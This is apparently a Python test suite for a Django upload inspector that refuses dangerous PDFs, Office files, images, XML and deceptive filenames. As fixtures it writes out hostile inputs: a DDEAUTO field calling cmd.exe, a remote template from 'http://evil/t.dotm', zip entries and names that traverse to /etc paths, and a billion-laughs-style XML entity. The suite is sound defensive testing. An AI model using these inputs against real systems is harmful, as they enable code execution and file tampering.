"""What comes from outside is believed in nothing: each danger is refused with a sentence, and nothing of it is kept."""

import time

import pikepdf
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadhandler import StopFutureHandlers
from django.utils import translation

from haidang.core.files.choices import Kind
from haidang.core.files.inspecting import Checked, UnfitFile, inspect
from haidang.core.files.tests import making
from haidang.core.files.uploads import Bounded, Files


def refused(data, name="giay.pdf", **asked) -> str:
    with translation.override("en"), pytest.raises(UnfitFile) as caught:
        inspect(data, name, **asked)
    return str(caught.value.message)


GOOD = {
    "don.pdf": (making.pdf(), Kind.PDF), "anh.jpg": (making.picture("JPEG"), Kind.JPEG), "anh.JPEG": (making.picture("JPEG"), Kind.JPEG),
    "anh.png": (making.picture(), Kind.PNG), "đơn.docx": (making.docx(), Kind.DOCX), "bảng.xlsx": (making.xlsx(), Kind.XLSX),
    "đơn.odt": (making.odt(), Kind.ODT), "dữ liệu.xml": ("<?xml version='1.0'?><hồ_sơ/>".encode(), Kind.XML),
}  # fmt: skip


@pytest.mark.parametrize("name", GOOD)
def test_what_people_hand_in_is_taken_as_what_it_is(name):
    data, kind = GOOD[name]
    found = inspect(data, name)
    assert (found.kind, found.name, found.data) == (kind, name, data)


def test_the_name_says_nothing_about_what_a_file_is():
    assert inspect(making.picture(), "don.pdf").name == "don.pdf.png"
    assert inspect(making.pdf(), "don.pdf.exe").name == "don.pdf.exe.pdf"
    assert "not taken" in refused(b"MZ\x90\x00 this program", "don.pdf")
    assert "not taken" in refused(b"<html><script>go()</script>", "don.pdf")
    assert "not taken" in refused(b"GIF89a" + bytes(50), "anh.gif")


def test_only_the_kinds_of_this_sort_are_taken():
    assert "Word document" in refused(making.docx(), "ket-qua.docx", allowed=[Kind.PDF])


@pytest.mark.parametrize(
    ("data", "why"),
    [
        (b"", "is empty"),
        (making.acting(), "a script or starts something"),
        (making.acting("/Launch"), "a script or starts something"),
        (making.acting("/SubmitForm"), "a script or starts something"),
        (making.carrying(), "carries other files"),
        (making.pdf(lambda made: made.Root.__setitem__("/AcroForm", pikepdf.Dictionary(XFA=pikepdf.String("x")))), "XFA"),
        (making.pdf()[:400], "cut off"),
        (b"%PDF-1.7 and nothing more", "cut off"),
        (making.pdf().replace(b"/Type /Catalog", b"/T#79pe /Catalog").replace(b"endobj", b"<</F#69lter/A>>stream\n endobj", 1), "disguises"),
    ],
)  # fmt: skip
def test_a_pdf_that_acts_carries_or_is_cut_off_is_refused(data, why):
    assert why in refused(data)


def test_a_locked_pdf_is_refused():
    import io

    out = io.BytesIO()
    made = pikepdf.new()
    made.add_blank_page()
    made.save(out, encryption=pikepdf.Encryption(user="mo", owner="mo"))
    assert "locked by a password" in refused(out.getvalue())


def test_a_script_hidden_in_a_packed_part_of_a_pdf_is_found():
    import io

    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(making.acting())) as made:
        made.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert b"/JavaScript" not in out.getvalue()
    assert "a script" in refused(out.getvalue())


@pytest.mark.parametrize(
    ("data", "name", "why"),
    [
        (making.pdf_bomb, "giay.pdf", "enormous"),
        (lambda: b"%PDF-1.7\n" + b"stream\n" * 200_000, "giay.pdf", "enormous"),
        (making.picture_bomb, "anh.png", "million dots"),
        (making.office_bomb, "don.docx", "enormous"),
        (
            lambda: b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b 'ha'><!ENTITY c '&b;&b;'>]><a>&c;</a>",
            "a.xml",
            "DTD",
        ),
    ],
    ids=["pdf", "streams", "picture", "office", "xml"],
)
def test_a_small_file_that_unfolds_to_an_enormous_one_is_refused_quickly(data, name, why):
    data = data()
    began = time.perf_counter()
    assert len(data) < 2_000_000 and why in refused(data, name)
    assert time.perf_counter() - began < 3


@pytest.mark.parametrize(
    ("parts", "why"),
    [
        ({"word/vbaProject.bin": "x"}, "macros"),
        ({"Basic/Standard/Module1.xml": "x"}, "macros"),
        ({"word/embeddings/oleObject1.bin": "x"}, "carries other files"),
        ({"../../etc/cron.d/x": "x"}, "other folders"),
        ({"word/_rels/settings.xml.rels": '<Relationship Type="http://x/attachedTemplate" Target="http://evil/t.dotm" TargetMode="External"/>'}, "from elsewhere"),
        ({"word/header.xml": "<w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe</w:instrText>"}, "from elsewhere"),
    ],
)  # fmt: skip
def test_an_office_file_that_acts_carries_or_fetches_is_refused(parts, why):
    assert why in refused(making.docx(**parts), "don.docx")


def test_a_packed_folder_and_an_old_office_file_are_told_what_to_do():
    assert "one by one" in refused(making.packed({"a.exe": "MZ"}), "don.docx")
    assert "Save it as .docx" in refused(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(99), "don.doc")
    assert "cut off" in refused(making.docx()[:-30], "don.docx")


def test_a_picture_that_was_cut_off_is_refused():
    for data, name in ((making.picture("JPEG")[:-40], "anh.jpg"), (making.picture()[:-20], "anh.png")):
        assert "cut off" in refused(data, name)


def test_a_page_or_drawing_with_scripts_is_no_data():
    assert "run scripts" in refused(
        b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'><script/></svg>", "a.xml"
    )


@pytest.mark.parametrize(
    ("name", "why"),
    [
        ("../../etc/passwd", "another folder"), ("..\\..\\boot.ini", "another folder"), ("anh\u202egpj.exe", "turns letters"),
        ("giay\x00.pdf", "not seen"), ("giay\n.pdf", "not seen"), ("giay\u200b.pdf", "not seen"), ("", "no name"), ("...", "no name"),
        ("a" * 300, "longer than 180"),
    ],
)  # fmt: skip
def test_a_name_made_to_deceive_is_refused(name, why):
    assert why in refused(making.pdf(), name)


def test_a_name_with_folders_before_it_keeps_only_its_end_and_one_form_of_letters():
    assert inspect(making.pdf(), "C:\\Users\\Lan\\đơn.pdf").name == "đơn.pdf"
    assert inspect(making.pdf(), "ho\u0323\u0302 so.pdf").name == "hộ so.pdf"


def test_too_large_is_refused_with_how_much_is_taken():
    assert "larger than" in refused(making.pdf(), most_bytes=100)


def test_nothing_says_that_it_was_checked_without_having_been():
    with pytest.raises(TypeError):
        Checked("a.pdf", Kind.PDF, b"%PDF-", "0" * 64)


def arrive(pieces, name="giay.pdf"):
    handler = Bounded()
    try:
        handler.new_file("papers", name, "application/pdf", None)
    except StopFutureHandlers:
        pass
    at = 0
    for piece in pieces:
        handler.receive_data_chunk(piece, at)
        at += len(piece)
    return handler.file_complete(at)


def test_a_form_keeps_no_more_of_a_file_than_may_be_taken_and_says_so_beside_its_field(papers):
    with translation.override("en"), pytest.raises(ValidationError, match="larger than") as caught:
        arrived = arrive([bytes(1024 * 1024)] * 30)
        assert len(arrived.read()) == 0
        Files(owner=papers).clean([arrived])
    assert "choose all of them again" in str(caught.value)


def test_every_wrong_file_of_a_form_is_named_at_once(papers):
    with translation.override("en"), pytest.raises(ValidationError, match="“a") as caught:
        Files(owner=papers).clean([arrive([b"MZ"], "a.pdf"), arrive([making.pdf()], "b.pdf"), arrive([making.acting()], "c.pdf")])  # fmt: skip
    assert "c.pdf" in str(caught.value) and "b.pdf" not in str(caught.value)


def test_content_that_happens_to_look_like_a_disguise_is_taken():
    def change(made):
        picture = pikepdf.Stream(made, b"x" * 2_500 + b" /J#61vaScript ", Filter=pikepdf.Name.DCTDecode)
        made.Root.Picture = made.make_indirect(picture)

    assert inspect(making.pdf(change), "don.pdf").kind is Kind.PDF
